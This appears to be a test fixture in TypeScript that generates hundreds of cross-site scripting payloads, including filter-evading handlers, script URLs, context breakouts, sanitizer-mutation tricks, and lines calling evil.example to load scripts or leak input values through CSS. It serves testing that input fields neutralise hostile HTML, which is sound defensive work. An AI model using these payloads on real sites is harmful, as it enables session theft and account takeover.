@@ -1,0 +1,212 @@
+// Built from parts rather than collected: a new trick is one line here and multiplies with all the others.
+
+const CALL = "alert(1)";
+
+const TAGS_WITH_HANDLERS = [
+  ["img src=x", "onerror"],
+  ["image src=x", "onerror"],
+  ["svg", "onload"],
+  ["svg><animate attributeName=x dur=1s", "onbegin"],
+  ["svg><set attributeName=x", "onend"],
+  ["body", "onload"],
+  ["video src=x", "onerror"],
+  ["video><source", "onerror"],
+  ["audio src=x", "onerror"],
+  ["input autofocus", "onfocus"],
+  ["select autofocus", "onfocus"],
+  ["textarea autofocus", "onfocus"],
+  ["button autofocus", "onfocus"],
+  ["details open", "ontoggle"],
+  ["div popover id=p", "onbeforetoggle"],
+  ["marquee", "onstart"],
+  ["iframe srcdoc=x", "onload"],
+  ["object data=x", "onerror"],
+  ["embed src=x", "onload"],
+  ["link rel=stylesheet href=x", "onerror"],
+  ["a href=# autofocus", "onfocusin"],
+  ["math tabindex=1 autofocus", "onfocus"],
+  ["p style=animation-name:x", "onanimationstart"],
+  ["div contenteditable autofocus", "oninput"],
+  ["xyz tabindex=1 autofocus", "onfocus"],
+] as const;
+
+/** Ways to write the same attribute that filters by pattern miss and browsers do not. */
+const HANDLER_SPELLINGS: ((handler: string) => string)[] = [
+  (handler) => ` ${handler}=${CALL}`,
+  (handler) => ` ${handler}="${CALL}"`,
+  (handler) => `/${handler}='${CALL}'`,
+  (handler) => `\n${handler.toUpperCase()}\t=\n${CALL}`,
+  (handler) => `\f${handler}=&#97;lert&lpar;1&rpar;`,
+  (handler) => ` ${handler}=\\u0061lert(1)`,
+  (handler) => `" ${handler}="${CALL}`,
+  (handler) => ` ${handler}\u0000=${CALL}`,
+];
+
+const SCRIPT_URLS = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  ` javascript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `java\tscript:${CALL}`,
+  `java\nscript:${CALL}`,
+  `java&Tab;script:${CALL}`,
+  `java&NewLine;script:${CALL}`,
+  `javascript&colon;${CALL}`,
+  `&#106;avascript:${CALL}`,
+  `&#x6A&#x61vascript:${CALL}`,
+  `&#0000106avascript:${CALL}`,
+  `javascript://shelf.example/%0a${CALL}`,
+  `javascript:/*--></title></style></textarea></script>*/${CALL}`,
+  `vbscript:msgbox(1)`,
+  ` vb\tscript:msgbox(1)`,
+  `data:text/html,<script>${CALL}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
+  `DATA:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${CALL}</script></x>`,
+  `blob:null/0`,
+  `feed:javascript:${CALL}`,
+  `view-source:javascript:${CALL}`,
+  `\u00a0javascript:${CALL}`,
+];
+
+const URL_PLACES: ((url: string) => string)[] = [
+  (url) => `<a href="${url}">x</a>`,
+  (url) => `<a href='${url}' target=_self>x</a>`,
+  (url) => `<iframe src="${url}"></iframe>`,
+  (url) => `<form action="${url}"><button>x</button></form>`,
+  (url) => `<button formaction="${url}" form=f>x</button><form id=f></form>`,
+  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
+  (url) => `<math href="${url}"><mi>x</mi></math>`,
+  (url) => `<object data="${url}"></object>`,
+  (url) => `<base href="${url}//"><a href="x">x</a>`,
+  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url) => `<svg><use href="${url}#x"/></svg>`,
+  (url) => `<img src="${url}" srcset="${url} 2x">`,
+];
+
+const PLAIN_PAYLOADS = [
+  `<script>${CALL}</script>`,
+  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
+  `<script/x>${CALL}</script/y>`,
+  `<script\u0000>${CALL}</script>`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<img src=x onerror=${CALL}>`,
+  `<svg/onload=${CALL}>`,
+];
+
+/** What the surrounding text may be: each closes or confuses a context that some page puts our strings into. */
+const CONTEXTS: ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `"><x>${payload}`,
+  (payload) => `'>${payload}`,
+  (payload) => `\`>${payload}`,
+  (payload) => `</script>${payload}`,
+  (payload) => `</title>${payload}`,
+  (payload) => `</style>${payload}`,
+  (payload) => `</textarea>${payload}`,
+  (payload) => `</noscript>${payload}`,
+  (payload) => `</template>${payload}`,
+  (payload) => `</svg>${payload}`,
+  (payload) => `-->${payload}`,
+  (payload) => `<!--${payload}`,
+  (payload) => `<!-->${payload}-->`,
+  (payload) => `<!--><!--<script>${payload}`,
+  (payload) => `]]>${payload}`,
+  (payload) => `<![CDATA[${payload}]]>`,
+  (payload) => `<?xml ?>${payload}`,
+  (payload) => `\u2028${payload}\u2029`,
+  (payload) => `\u202e${payload}\u202c`,
+  (payload) => `\ufeff${payload}`,
+  (payload) => `text \u0000 ${payload}`,
+  (payload) => `\\";${payload}//`,
+  (payload) => `\${${payload}}`,
+  (payload) => `{{${payload}}}`,
+  (payload) => payload.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (payload) => payload.replaceAll("<", "&#60;"),
+  (payload) => payload.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
+  (payload) => payload.replaceAll("<", "\\u003c"),
+  (payload) => payload.replaceAll("<", "%3C"),
+];
+
+const MUTATING_ROOTS = [
+  "svg",
+  "math",
+  "svg><foreignObject",
+  "math><annotation-xml encoding=text/html",
+  "select",
+  "table",
+  "frameset",
+];
+const MUTATING_INNERS = [
+  "style",
+  "title",
+  "textarea",
+  "noscript",
+  "template",
+  "xmp",
+  "noembed",
+  "noframes",
+  "iframe",
+  "plaintext",
+];
+
+/** Markup that is harmless as first parsed and not when serialised and parsed again. */
+const MUTATIONS = MUTATING_ROOTS.flatMap((root) =>
+  MUTATING_INNERS.flatMap((inner) => [
+    `<${root}><${inner}><img title="</${inner}><img src=x onerror=${CALL}>">`,
+    `<${root}></p><${inner}><!--</${inner}><img src=x onerror=${CALL}>-->`,
+  ]),
+);
+
+const SINGLE_TRICKS = [
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
+  `<svg><style>&lt;img src=x onerror=${CALL}&gt;</style></svg>`,
+  `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`,
+  `<template><script>${CALL}</script></template>`,
+  `<div><template shadowrootmode=open><script>${CALL}</script></template></div>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+  `<x style="background:url(javascript:${CALL})">x</x>`,
+  `<div style="width:expression(${CALL})">x</div>`,
+  `<style>@import "//evil.example/x.css";</style>`,
+  `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
+  `<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>`,
+  `<a href="//evil.example" target="_blank" rel="opener">x</a>`,
+  `<form id=x tabindex=0 onfocus=${CALL}><input name=attributes><input name=innerHTML></form>`,
+  `<a id=__proto__><a id=__proto__ name=x href="javascript:${CALL}">x</a>`,
+  `<img name=getElementById><form name=cookie></form>`,
+  `<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;"></iframe>`,
+  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
+  `<meta charset=utf-7>+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
+  `<isindex type=image src=1 onerror=${CALL}>`,
+  `<portal src="javascript:${CALL}"></portal>`,
+  `<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=${CALL}>"></object>`,
+  `<svg><script href="data:,${CALL}"/></svg>`,
+  `<svg><script>&#97;lert(1)</script></svg>`,
+  `<!DOCTYPE x [<!ENTITY y "<script>${CALL}</script>">]><x>&y;</x>`,
+  `<img src='x${"\u0000"}' onerror=${CALL}>`,
+  `<img src=x:${CALL} onerror=eval(src)>`,
+  `<<script>${CALL}//<</script>`,
+  `<a href="https://shelf.example" onclick=${CALL} onclick=void(0)>x</a>`,
+  `${"<b>".repeat(600)}<script>${CALL}</script>`,
+  `\u202egnp.exe`,
+  `\u2066<b>\u2069\u200b\u200d\u00ad`,
+  `\ud800<script>${CALL}</script>`,
+  `\u0000`,
+  `<`,
+  `<!`,
+  `</`,
+  `&`,
+  `&#0;&#x110000;&#xD800;`,
+];
+
+/** Hostile HTML for every field that people write: none may run, none may leave its place on the page. */
+export const htmlStrings: readonly string[] = [
+  ...new Set([
+    ...TAGS_WITH_HANDLERS.flatMap(([tag, handler]) => HANDLER_SPELLINGS.map((spell) => `<${tag}${spell(handler)}>`)),
+    ...SCRIPT_URLS.flatMap((url) => URL_PLACES.map((place) => place(url))),
+    ...PLAIN_PAYLOADS.flatMap((payload) => CONTEXTS.map((place) => place(payload))),
+    ...MUTATIONS,
+    ...SINGLE_TRICKS,
+  ]),
+];
